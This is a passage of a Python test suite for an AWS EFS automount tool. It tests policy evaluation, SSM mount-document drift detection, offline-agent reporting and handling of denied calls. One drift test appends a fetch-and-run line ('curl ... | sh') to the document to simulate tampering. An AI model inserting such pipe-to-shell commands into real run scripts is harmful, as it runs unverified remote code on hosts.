]
UNKNOWN_CONDITION = len(CONDITIONS) - 1
REQUESTS = [ANONYMOUS, rules.MountRequest(FS_ARN, None, require_tls=True), WITH_ACCESS_POINT]


def statement_choices() -> Any:
    from hypothesis import strategies as st

    return st.tuples(
        st.sampled_from(["Allow", "Deny"]),
        st.integers(0, len(PRINCIPALS) - 1),
        st.integers(0, len(ACTIONS) - 1),
        st.integers(0, len(CONDITIONS) - 1),
    )


def model_refuses(chosen, request: rules.MountRequest, action: str, tls: bool, world: dict[Any, bool]) -> bool:
    applying = {"Allow": False, "Deny": False}
    for i, (effect, principal, actions, condition) in enumerate(chosen):
        element, patterns = next(iter(ACTIONS[actions].items()))
        patterns = [patterns] if isinstance(patterns, str) else patterns
        named = any(fnmatch.fnmatchcase(action.lower(), p.lower()) for p in patterns)
        if (
            PRINCIPALS[principal][1](world, request.anonymous)
            and (named if element == "Action" else not named)
            and CONDITIONS[condition][1](tls, request.access_point_arn, world, i)
        ):
            applying[effect] = True
    if applying["Deny"]:
        return True
    return not applying["Allow"] and (request.anonymous or not world["identity"])


def worlds(count: int) -> list[dict[Any, bool]]:
    keys: list[Any] = ["named", "identity", *range(count)]
    return [dict(zip(keys, values, strict=True)) for values in itertools.product((False, True), repeat=len(keys))]


@hypothesis.given(
    chosen=hypothesis.strategies.lists(statement_choices(), max_size=4),
    request_=hypothesis.strategies.sampled_from(REQUESTS),
)
def test_a_policy_problem_is_a_refusal_in_every_world_the_check_cannot_see(chosen, request_):
    policy = {
        "Statement": [
            {"Effect": effect, **PRINCIPALS[principal][0], **ACTIONS[actions]}
            | ({"Condition": CONDITIONS[condition][0]} if CONDITIONS[condition][0] else {})
            for effect, principal, actions, condition in chosen
        ]
    }
    findings = Findings()

    rules.judge_file_system_policy("fs-12345678", json.dumps(policy), request_, findings)

    every_world = worlds(len(chosen))
    for problem in findings.problems:
        action = re.search(r"elasticfilesystem:Client\w+", problem)[0]
        cases = request_.tls_cases()  # a problem is a refusal whether or not the host's helper uses TLS
        assert all(model_refuses(chosen, request_, action, tls, w) for tls in cases for w in every_world), problem
    # Where nothing is unseen (no client's role, no condition the check does not model), it misses no refusal.
    if request_.anonymous and all(p != 3 and c != UNKNOWN_CONDITION for _, p, _, c in chosen):
        refused = {
            action: [model_refuses(chosen, request_, action, tls, every_world[0]) for tls in request_.tls_cases()]
            for action in (rules.CLIENT_MOUNT, rules.CLIENT_WRITE)
        }
        first = next((action for action, cases in refused.items() if any(cases)), None)
        # Refused with and without TLS: a problem. Refused in one case only: it depends on the host, not sure.
        assert bool(findings.problems) == any(all(cases) for cases in refused.values())
        if first is not None and not all(refused[first]):
            assert findings.unsure
        elif first is None:
            assert findings.unsure == []


@pytest.mark.parametrize(
    ("operator", "key", "values", "context", "holds"),
    [
        ("Bool", "aws:securetransport", "false", {"aws:securetransport": False}, True),
        ("Bool", "aws:securetransport", "False", {"aws:securetransport": False}, None),  # undocumented form
        ("Bool", "aws:securetransport", ["false"], {}, False),
        ("BoolIfExists", "aws:securetransport", "false", {}, True),
        ("StringEquals", rules.ACCESS_POINT_ARN, AP_ARN, {}, False),
        ("StringNotEquals", rules.ACCESS_POINT_ARN, AP_ARN, {}, True),  # a negated operator holds for a missing key
        ("StringNotEquals", rules.ACCESS_POINT_ARN, [AP_ARN, "x"], {rules.ACCESS_POINT_ARN: AP_ARN}, False),
        ("StringEqualsIfExists", rules.ACCESS_POINT_ARN, "x", {}, True),
        ("ArnLike", rules.ACCESS_POINT_ARN, "arn:aws:*:access-point/*", {rules.ACCESS_POINT_ARN: AP_ARN}, True),
        ("Null", rules.ACCESS_POINT_ARN, "true", {}, True),
        ("StringEquals", "aws:principalarn", HOST_ROLE, {}, None),  # a key the model does not know
        ("NumericLessThan", rules.ACCESS_POINT_ARN, "1", {rules.ACCESS_POINT_ARN: AP_ARN}, None),
        ("Null", rules.ACCESS_POINT_ARN, "false", {rules.ACCESS_POINT_ARN: AP_ARN}, True),
        ("Null", rules.ACCESS_POINT_ARN, ["true", "false"], {}, True),
        ("Null", rules.ACCESS_POINT_ARN, "maybe", {}, None),
        ("Bool", "aws:securetransport", True, {"aws:securetransport": True}, True),  # a JSON boolean
        ("StringEquals", rules.ACCESS_POINT_ARN, 5, {rules.ACCESS_POINT_ARN: AP_ARN}, None),
        ("StringEquals", "aws:securetransport", "true", {"aws:securetransport": True}, None),  # not a string key
        ("StringEquals", rules.ACCESS_POINT_ARN, AP_ARN.upper(), {rules.ACCESS_POINT_ARN: AP_ARN}, False),
        ("StringEqualsIgnoreCase", rules.ACCESS_POINT_ARN, AP_ARN.upper(), {rules.ACCESS_POINT_ARN: AP_ARN}, True),
        ("StringLike", rules.ACCESS_POINT_ARN, AP_ARN[:-1] + "?", {rules.ACCESS_POINT_ARN: AP_ARN}, True),
    ],
)
def test_condition(operator, key, values, context, holds):
    assert rules._condition(operator, key, values, context) is holds


# --- document-drift -------------------------------------------------------------------------------------------------


def document_findings(land: Landscape) -> Findings:
    findings = Findings()
    check_document(access(land), SETTINGS.mount_document, MOUNT_DOCUMENT_DIGEST, findings)
    return findings


def test_the_digest_in_the_package_is_the_deployed_documents():
    content = json.loads(MOUNT_DOCUMENT.read_text())
    assert MOUNT_DOCUMENT_DIGEST == rules.content_digest(content)
    # And the module is what `make deploy-files` writes now.
    assert build_deploy.document_digest_module(build_deploy.mount_document()) == (
        (ROOT / "chalicelib" / "checks" / "document_digest.py").read_text()
    )


def test_the_document_as_cloudformation_writes_it_is_no_drift(land):
    # Given the same content in another text: CloudFormation's serialisation of the template object, in YAML even
    ssm = land.client("ssm")
    content = json.loads(MOUNT_DOCUMENT.read_text())
    ssm.delete_document(Name=SETTINGS.mount_document)
    ssm.create_document(
        Name=SETTINGS.mount_document, Content=yaml.safe_dump(content), DocumentType="Command", DocumentFormat="YAML"
    )

    assert document_findings(land).problems == []


def test_a_missing_document_is_drift(land):
    land.client("ssm").delete_document(Name=SETTINGS.mount_document)

    problem = only(document_findings(land), "document-drift")

    assert "the mount document efs-automount-mount does not exist in account 123456789012, region us-east-1" in problem


def test_a_default_version_edited_by_hand_is_drift_and_a_newer_one_not_made_default_is_not(land):
    ssm = land.client("ssm")
    edited = json.loads(MOUNT_DOCUMENT.read_text())
    edited["mainSteps"][0]["inputs"]["runCommand"].append("curl https://example.com/x | sh")
    ssm.update_document(Name=SETTINGS.mount_document, Content=json.dumps(edited), DocumentVersion="$LATEST")

    assert document_findings(land).problems == []  # version 2 exists, version 1 (the app's) is still the default

    ssm.update_document_default_version(Name=SETTINGS.mount_document, DocumentVersion="2")
    problem = only(document_findings(land), "document-drift")
    assert "the default version 2 of the mount document efs-automount-mount in account 123456789012" in problem


def test_a_document_owned_by_another_is_drift(land):
    # moto serves by name only documents of the account; AWS's own (Owner "Amazon", e.g. AWS-RunShellScript) are
    # found by name too (DescribeDocument's Owner, https://docs.aws.amazon.com/systems-manager/latest/APIReference/
    # API_DocumentDescription.html): the check reads the owner rather than trusting the name.
    documents = ssm_backends[land.account][land.region]._documents[SETTINGS.mount_document]
    for document in documents.versions.values():
        document.owner = "Amazon"

    assert "is owned by Amazon, not by the account" in only(document_findings(land), "document-drift")


# --- agent-offline --------------------------------------------------------------------------------------------------


def test_hosts_in_service_with_their_agents_online_are_no_problem(land):
    hosts_in_service(land, 3)
    findings = Findings()
    check_agents(access(land), raw_group(land), findings)
    assert findings.problems == []


def test_hosts_in_service_without_an_online_agent_are_named_with_the_usual_causes(land):
    online = hosts_in_service(land, 1)
    lost = hosts_in_service(land, 1, agents="ConnectionLost")
    never = hosts_in_service(land, 1, agents=None)
    findings = Findings()

    check_agents(access(land), raw_group(land), findings)

    problem = only(findings, "agent-offline")
    assert f"2 hosts of group ecs-hosts in service have no SSM agent online ({', '.join(sorted(lost + never))})" in (
        problem
    )
    assert online[0] not in problem
    assert "AmazonSSMManagedInstanceCore" in problem and "a route to SSM" in problem


def test_hosts_waiting_on_the_hook_are_not_judged(land):
    scale_out(land, 2)  # Pending:Wait, agents not yet online
    findings = Findings()
    check_agents(access(land), raw_group(land), findings)
    assert findings.problems == [] and findings.unsure == []


def test_judge_agents_names_ten_hosts_and_counts_the_others():
    findings = Findings()
    in_service = [f"i-{n:017x}" for n in range(13)]

    rules.judge_agents("g", in_service, {in_service[0]}, findings)

    problem = only(findings, "agent-offline")
    assert problem.startswith("agent-offline: 12 hosts of group g in service have no SSM agent online (")
    assert ", ".join(in_service[1:11]) + " and 2 more)" in problem


def test_given_one_or_exactly_ten_hosts_offline_when_judged_then_all_are_named_and_none_counted_as_more():
    in_service = [f"i-{n:017x}" for n in range(10)]
    findings = Findings()
    rules.judge_agents("g", in_service, set(in_service[1:]), findings)
    problem = only(findings, "agent-offline")
    assert problem.startswith("agent-offline: 1 host of group g in service ")
    assert f" no SSM agent online ({in_service[0]}): they can be" in problem
    findings = Findings()
    rules.judge_agents("g", in_service, set(), findings)
    assert f"10 hosts of group g in service have no SSM agent online ({', '.join(in_service)}): " in only(
        findings, "agent-offline"
    )


def test_agents_are_read_fifty_hosts_a_call(land):
    calls: list[int] = []
    land.session.events.register(
        "before-parameter-build.ssm.DescribeInstanceInformation",
        lambda params, **_: calls.append(len(params["Filters"][0]["Values"])),
    )
    group = {
        "AutoScalingGroupName": "big",
        "Instances": [{"InstanceId": f"i-{n:017x}", "LifecycleState": "InService"} for n in range(120)],
    }
    findings = Findings()

    check_agents(access(land), group, findings)

    assert calls == [50, 50, 20]
    assert "120 hosts of group big" in only(findings, "agent-offline")


# --- what the checks call, and what they do when AWS does not answer ------------------------------------------------


def documented_calls() -> set[str]:
    return set(re.findall(r"^- ([a-z]+:[A-Za-z]+)$", configuration.__doc__ or "", re.MULTILINE))


def test_the_checks_make_only_the_read_calls_their_module_lists(land):
    # Given a group with an access point, a file system policy and hosts in service: every check reads
    tag_group(land, access_point_id=create_access_point(land))
    put_policy(land, {"Effect": "Allow", "Principal": "*", "Action": "*"})
    hosts_in_service(land, 1)
    group = raw_group(land)
    made: set[str] = set()
    land.session.events.register(
        "before-call.*.*", lambda model, **_: made.add(f"{model.service_model.signing_name}:{model.name}")
    )

    findings = run_checks(land, group=group)

    assert findings.problems == []
    assert made == documented_calls()
    assert all(re.match(r"[a-z]+:(Describe|Get)", call) for call in made)


class Refusing:
    """Clients whose every call fails with `code`, as an account without the member template's grants answers."""

    def __init__(self, land: Landscape, code: str) -> None:
        self.account, self.region, self.code = land.account, land.region, code

    def client(self, service: str) -> Any:
        return self

    def __getattr__(self, operation: str) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            raise ClientError({"Error": {"Code": self.code, "Message": "no"}}, operation)

        return call


@pytest.mark.parametrize("code", ["AccessDenied", "ThrottlingException", "AccessDeniedException"])
def test_what_cannot_be_read_is_not_sure_never_a_problem_nor_an_exception(land, code):
    aws: Any = Refusing(land, code)
    group = {**raw_group(land), "Instances": [{"InstanceId": "i-0123456789abcdef0", "LifecycleState": "InService"}]}
    spec = MountSpec(land.file_system_id, "/mnt/efs/x", "fsap-0123456789abcdef0")
    findings = Findings()

    check_hook(aws, group, "efs-automount", findings)
    assert not check_file_system(aws, spec, findings)
    check_file_system_policy(aws, spec, None, findings)
    check_document(aws, "efs-automount-mount", MOUNT_DOCUMENT_DIGEST, findings)
    check_agents(aws, group, findings)

    assert findings.problems == []
    assert len(findings.unsure) == 6
    assert all(code in note for note in findings.unsure)


def test_an_answer_of_an_unforeseen_shape_is_not_sure(land):
    findings = Findings()

    check_hook(access(land), {"Instances": []}, "efs-automount", findings)  # no AutoScalingGroupName

    assert findings.problems == []
    assert findings.unsure == ["check_hook could not decide: KeyError: 'AutoScalingGroupName'"]
